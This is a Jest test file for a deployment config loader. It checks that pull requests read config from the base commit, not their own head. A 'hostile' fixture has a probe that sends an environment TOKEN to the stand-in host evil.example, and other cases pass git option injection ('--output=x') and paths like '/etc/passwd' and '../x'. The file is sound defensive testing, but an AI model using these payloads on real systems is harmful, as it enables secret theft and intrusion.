import {afterAll, beforeAll, describe, expect, test} from '@jest/globals';
import {execFileSync} from 'node:child_process';
import {mkdirSync, mkdtempSync, rmSync, symlinkSync, writeFileSync} from 'node:fs';
import {tmpdir} from 'node:os';
import {join} from 'node:path';
import type {LoadOptions} from '../../src/config/load.ts';
import {loadConfig, loadInputs} from '../../src/config/load.ts';
import {trustOf} from '../../src/config/trust.ts';
import {testWorld} from '../builders/world.ts';

let repository = '';
let base = '';
const file = '.github/deploy-truth.yml';
const git = (...args: string[]): string =>
	execFileSync('git', ['-C', repository, '-c', 'user.name=t', '-c', 'user.email=t@example.com', ...args], {
		encoding: 'utf8',
	}).trim();
const write = (text: string): void => writeFileSync(join(repository, file), text);
const honest = 'version: 1\nservices: {api: {image: ghcr.io/acme/api}}\n';
const hostile = 'version: 1\nservices: {api: {probes: [{url: "https://evil.example/", headers: {X: {env: TOKEN}}}]}}\n';

beforeAll(() => {
	repository = mkdtempSync(join(tmpdir(), 'deploy-truth-config-'));
	git('init', '-q', '-b', 'main');
	mkdirSync(join(repository, '.github'));
	mkdirSync(join(repository, 'web'));
	write(honest);
	writeFileSync(join(repository, 'web', 'truth.yml'), honest.replace('api:', 'web:'));
	symlinkSync('deploy-truth.yml', join(repository, '.github', 'link.yml'));
	git('add', '.');
	git('commit', '-qm', 'base');
	base = git('rev-parse', 'HEAD');
	write(hostile);
	git('commit', '-qam', 'head');
});

afterAll(() => rmSync(repository, {recursive: true, force: true}));

const load = (more: Partial<LoadOptions> = {}) =>
	loadConfig(testWorld(), {
		file: null,
		repository,
		trust: 'trusted',
		secrets: [],
		revision: null,
		services: [],
		...more,
	});

const pullRequest = () =>
	trustOf('pull_request', {repository: {default_branch: 'main'}, pull_request: {base: {sha: base}}});

describe('where the file is read', () => {
	test('the working tree, for a trusted event', async () => {
		expect(await load()).toMatchObject({config: {services: [{image: null, probes: [{url: 'https://evil.example/'}]}]}});
	});

	test('the base commit, for a pull request: its own head is not believed', async () => {
		expect(await load({revision: base, trust: 'untrusted'})).toMatchObject({
			config: {trust: 'untrusted', services: [{image: {reference: 'ghcr.io/acme/api'}, probes: []}]},
		});
		const options = {repository, trust: pullRequest(), service: null, environment: null};
		expect(await loadInputs(testWorld(), () => '', options)).toMatchObject({
			asked: {mode: 'verify', config: {trust: 'untrusted', services: [{service: 'api', probes: []}]}},
		});
	});

	test('the base commit from a directory of the repository', async () => {
		const loaded = await load({repository: join(repository, 'web'), file: 'truth.yml', revision: base});
		expect(loaded).toMatchObject({config: {services: [{service: 'web'}]}});
	});
});

describe('what cannot be read is a problem', () => {
	test.each<[string, () => Partial<LoadOptions>, string]>([
		['no file', () => ({file: 'none.yml'}), 'no such file'],
		['no file in the commit', () => ({file: 'none.yml', revision: base}), 'no such file in the commit'],
		['a directory', () => ({file: '.github'}), 'a file that cannot be read'],
		['a directory of the commit', () => ({file: '.github', revision: base}), 'a directory, a link or a submodule'],
		['a link in the commit', () => ({file: '.github/link.yml', revision: base}), 'a directory, a link or a submodule'],
		[
			'a commit that the clone lacks',
			() => ({revision: 'b'.repeat(40)}),
			`no commit '${'b'.repeat(40)}' in this clone`,
		],
		['a revision that git takes for an option', () => ({revision: '--output=x'}), "the revision '--output=x'"],
		['an absolute path in a commit', () => ({file: '/etc/passwd', revision: base}), "'/etc/passwd'"],
		['a path out of the commit', () => ({file: '../x', revision: base}), "'../x'"],
	])('%s', async (_, more, found) => {
		const loaded = await load(more());
		expect('problems' in loaded && loaded.problems.map((problem) => problem.found)).toEqual([
			expect.stringContaining(found),
		]);
	});

	test('more than a mebibyte', async () => {
		writeFileSync(join(repository, 'large.yml'), `#${'x'.repeat(1024 * 1024)}`);
		expect(await load({file: 'large.yml'})).toMatchObject({problems: [{found: 'a file of more than 1 MiB'}]});
	});

	test('bytes that are not UTF-8', async () => {
		writeFileSync(join(repository, 'latin.yml'), Buffer.from('version: 1 # \xe9', 'latin1'));
		expect(await load({file: 'latin.yml'})).toMatchObject({problems: [{found: 'bytes that are not UTF-8'}]});
		writeFileSync(join(repository, 'replaced.yml'), `${honest}# \ufffd\n`);
		expect(await load({file: 'replaced.yml'})).toMatchObject({config: {}});
	});

	test('a named file that is missing is a problem, the usual one is not', async () => {
		const options = {
			repository: join(repository, 'web'),
			trust: trustOf('push', {}),
			service: 'web',
			environment: 'test',
		};
		const inputs = (given: Record<string, string>) => (name: string) => given[name] ?? '';
		expect(await loadInputs(testWorld(), inputs({config: 'x.yml', image: 'a'}), options)).toMatchObject({
			problems: [{place: 'x.yml'}],
		});
		expect(await loadInputs(testWorld(), inputs({image: 'a'}), options)).toMatchObject({
			asked: {config: {services: [{service: 'web', environment: 'test'}]}},
		});
	});

	test('an event whose base nobody knows', async () => {
		const options = {repository, trust: trustOf('pull_request', {}), service: null, environment: null};
		const loaded = await loadInputs(testWorld(), () => '', options);
		expect(loaded).toMatchObject({problems: [{todo: expect.stringContaining('config: none')}]});
	});
});
